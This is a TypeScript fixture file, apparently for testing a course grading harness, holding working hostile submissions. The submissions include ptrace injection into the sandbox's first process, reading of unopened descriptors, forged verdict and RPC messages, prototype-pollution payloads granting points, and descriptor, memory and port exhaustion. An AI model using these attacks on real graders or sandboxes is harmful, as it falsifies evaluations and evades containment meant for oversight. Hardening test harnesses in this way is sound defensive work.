/** Attacks on whoever the same harness checks next. Each gives the right answer, so as to be trusted. */

import { courseRoot } from '../../../lib/base/paths.ts';

/** An attack by one learner, and what becomes of the harness that it was made on. */
export interface EarlierAttack {
  readonly name: string;
  /**
   * Declares `answer(n, port)`: called once, it is to return twice `n`; at `port` the harness listens.
   */
  readonly code: string;
  /** Whether the harness serves the next one too; absent where that depends on who is faster. */
  readonly keepsHarness?: boolean;
}

/** Calls the system: what a library for that can do, a learner's code can do. */
const callTheSystem = `const { createRequire } = await import('node:module');
interface Library { func(signature: string): (...args: unknown[]) => number }
interface Koffi { load(path: null): Library; address(buffer: Buffer): bigint }
const koffi = createRequire('${courseRoot}/lib/package.json')('koffi') as Koffi;
const library = koffi.load(null);`;

/**
 * Makes the first process of the sandbox do as the learner says: it forgets that it is to end with
 * its parent, and later tells its parent that all is over. By user_regs_struct of x86-64; on other
 * machines the attack does nothing.
 */
const seizeFirstProcess = `${callTheSystem}
const { readdirSync, readlinkSync } = await import('node:fs');
const ptrace = library.func('long ptrace(long, int, void *, void *)');
const waitpid = library.func('int waitpid(int, void *, int)');
function callAsFirst(number: bigint, first: bigint, second?: bigint): void {
  if (process.arch !== 'x64') return;
  ptrace(16, 1, null, null);
  waitpid(1, null, 0x40000000);
  const registers = Buffer.alloc(27 * 8);
  ptrace(12, 1, null, registers);
  const get = (index: number) => registers.readBigUInt64LE(8 * index);
  const set = (index: number, value: bigint) => registers.writeBigUInt64LE(BigInt.asUintN(64, value), 8 * index);
  const unused = get(19) - 256n;
  ptrace(5, 1, unused, 1n);
  set(10, number); set(14, first); set(13, second ?? unused); set(12, 8n); set(15, -1n);
  set(16, get(16) - 2n);
  ptrace(13, 1, null, registers);
  ptrace(17, 1, null, null);
}
const toParent = readdirSync('/proc/1/fd').find((each) => readlinkSync('/proc/1/fd/' + each).includes('eventfd'));
const forgetParent = () => callAsFirst(157n, 1n, 0n);
const tellParentAllIsOver = () => callAsFirst(1n, BigInt(toParent ?? -1));
forgetParent();
process.removeAllListeners('disconnect');
setInterval(() => {}, 1000);`;

/** Forgets its parent, and then starts a child as a sign that it has. */
export const survivor = `${seizeFirstProcess}
import { spawn } from 'node:child_process';
const answer = () => {
  spawn('/bin/sleep', ['600'], { detached: true, stdio: 'ignore' }).unref();
  return new Promise<never>(() => {});
};`;

/** Answers with all that it can read of what it did not open. */
export const reader = `import { readdirSync, readSync } from 'node:fs';
const answer = () => readdirSync('/proc/self/fd').map((descriptor) => {
  const data = Buffer.alloc(100);
  try { return data.toString('utf8', 0, readSync(Number(descriptor), data, 0, 100, 0)); } catch { return ''; }
}).join('');`;

/** Sends a message together with open descriptors. */
const sendDescriptors = `${callTheSystem}
const sendmsg = library.func('long sendmsg(int, void *, int)');
function pass(byte: number, descriptor: number): void {
  const [data, control, vector, header] = [Buffer.of(byte), Buffer.alloc(24), Buffer.alloc(16), Buffer.alloc(56)];
  vector.writeBigUInt64LE(BigInt(koffi.address(data)), 0);
  vector.writeBigUInt64LE(1n, 8);
  control.writeBigUInt64LE(20n, 0);
  control.writeInt32LE(1, 8);
  control.writeInt32LE(1, 12);
  control.writeInt32LE(descriptor, 16);
  header.writeBigUInt64LE(BigInt(koffi.address(vector)), 16);
  header.writeBigUInt64LE(1n, 24);
  header.writeBigUInt64LE(BigInt(koffi.address(control)), 32);
  header.writeBigUInt64LE(24n, 40);
  sendmsg(3, header, 0x40);
}`;

const sending = 'const send = process.send?.bind(process) as (...args: unknown[]) => void;';
const writing = `const { writeSync } = await import('node:fs');
function writeNonsense(): void { try { writeSync(3, Buffer.of(0, 0, 0, 2, 0x99, 0x99)); } catch { clearInterval(writer); } }
let writer: NodeJS.Timeout | undefined;`;

/** Gives the right answer, and does `deed` as soon as that is on its way. */
function andThen(deed: string): string {
  return `const answer = (n: number) => { setImmediate(() => { ${deed} }); return 2 * n; };`;
}

export const earlierAttacks: readonly EarlierAttack[] = [
  {
    name: 'lives on by means of the first process of its sandbox, and writes nonsense from then on',
    code: `${seizeFirstProcess}
${writing}
${andThen('tellParentAllIsOver(); writer = setInterval(writeNonsense, 1);')}`,
  },
  {
    name: 'writes nonsense as its last words',
    code: `${writing}\n${andThen('for (;;) writeNonsense();')}`,
  },
  {
    name: 'sends so many descriptors one by one that nonsense behind them is read late',
    code: `${sendDescriptors}
${andThen('for (;;) for (const byte of [0, 0, 0, 2, 0x99, 0x99]) pass(byte, 0);')}`,
  },
  {
    name: 'brings the harness down, by a descriptor that Node has no use for',
    code: `${sendDescriptors}
const answer = (n: number) => { pass(0, 0); return 2 * n; };`,
    keepsHarness: false,
  },
  {
    name: 'fills the table of open descriptors',
    code: `${sending}
const { createServer } = await import('node:net');
import { once } from 'node:events';
const server = createServer().listen(0, '127.0.0.1');
await once(server, 'listening');
const { _handle: handle } = server as unknown as { _handle: unknown };
const answer = async (n: number) => {
  for (let time = 0; time < 100; time += 1) await new Promise((sent) => send({}, handle, sent));
  return 2 * n;
};`,
    keepsHarness: false,
  },
  {
    name: "acknowledges what Node's own messages have never asked",
    code: `${sending}
const answer = async (n: number) => {
  await new Promise((sent) => send({ cmd: 'NODE_HANDLE_ACK' }, sent));
  return 2 * n;
};`,
    keepsHarness: false,
  },
  {
    name: 'forges every message there is',
    code: `${sending}
// But { type: 'uncaught' }, which costs its sender the check and nobody else anything.
const messages = [{ type: 'ready' }, { type: 'failed', message: 'failed' }];
const forged = [{ type: 'verdict', id: 0 }, { type: 'done' }, { type: 'ended', isFree: true }, { type: 'broken', message: 'broken' }, { type: 'learner-failed', message: 'failed' }];
const returns = Array.from({ length: 50 }, (_, id) => ({ type: 'rpc', message: { kind: 'return', id: id + 1, ok: true, value: 42 } }));
const offers = [null, { functions: { answer: 42 } }].map((value) => ({ type: 'rpc', message: { kind: 'offer', value } }));
${andThen('for (const message of [...messages, ...forged, ...returns, ...offers]) send(message);')}`,
    keepsHarness: true,
  },
  {
    name: 'goes on sending until it is ended',
    code: `${sending}
${andThen("setInterval(() => { for (let id = 0; id < 100; id += 1) send({ type: 'rpc', message: { kind: 'offer', value: new Array(1000).fill({ id }) } }); }, 0);")}`,
  },
  {
    name: 'leaves as much memory behind as it may',
    code: `${sending}
for (let time = 0; time < 4; time += 1) send({ type: 'rpc', message: { kind: 'offer', value: Buffer.alloc(2 ** 24, 1) } });
const answer = (n: number) => 2 * n;`,
  },
  {
    name: 'kills itself once it has answered',
    code: andThen("process.kill(process.pid, 'SIGKILL');"),
  },
  {
    name: 'ends itself, and leaves a child that writes on the channel',
    code: `const { spawn } = await import('node:child_process');
const answer = (n: number) => {
  spawn('/bin/sh', ['-c', "while printf '\\\\000\\\\000\\\\000\\\\002\\\\231\\\\231' >&3; do :; done"], { detached: true, stdio: [0, 1, 2, 3] }).unref();
  setImmediate(() => (process as unknown as { reallyExit: (code: number) => void }).reallyExit(0));
  return 2 * n;
};`,
  },
  {
    name: 'stops itself once it has answered',
    code: andThen("process.kill(process.pid, 'SIGSTOP');"),
    keepsHarness: true,
  },
  {
    name: 'unplugs the channel once it has answered',
    code: andThen('process.disconnect();'),
  },
  {
    name: 'leaves children behind that hold its channel and its standard error',
    code: `const { spawn } = await import('node:child_process');
for (let child = 0; child < 10; child += 1) spawn('/bin/sleep', ['600'], { detached: true, stdio: [0, 1, 2, 3] }).unref();
const answer = (n: number) => 2 * n;`,
    keepsHarness: true,
  },
  {
    name: 'takes the ports of the next, and leaves connections in every state',
    code: `const { createServer, connect } = await import('node:net');
import { once } from 'node:events';
const servers = [9702, 9703, 9704].map((port) => createServer({ allowHalfOpen: true }).listen(port, HOST));
const named = createServer().listen('\\0wirebook-next-learner');
await Promise.all([...servers, named].map((server) => once(server, 'listening')));
for (const port of [9702, 9703, 9704]) for (let time = 0; time < 20; time += 1) await once(connect({ port, host: HOST, allowHalfOpen: true }).on('error', () => {}), 'connect');
const answer = async (n: number, port: number) => {
  for (let time = 0; time < 50; time += 1) await once(connect({ port, host: HOST, allowHalfOpen: true }).on('error', () => {}), 'connect');
  return 2 * n;
};`,
    keepsHarness: true,
  },
  {
    name: 'answers with prototypes and fields that grant everything',
    code: `${sending}
const grant = () => JSON.parse('{"__proto__":{"failure":null,"points":10,"then":1},"constructor":{"prototype":{"failure":null}}}');
send({ type: '__proto__', __proto__: null, message: grant() });
const answer = (n: number) => Object.assign(Object(2 * n), grant()) && 2 * n;`,
    keepsHarness: true,
  },
];
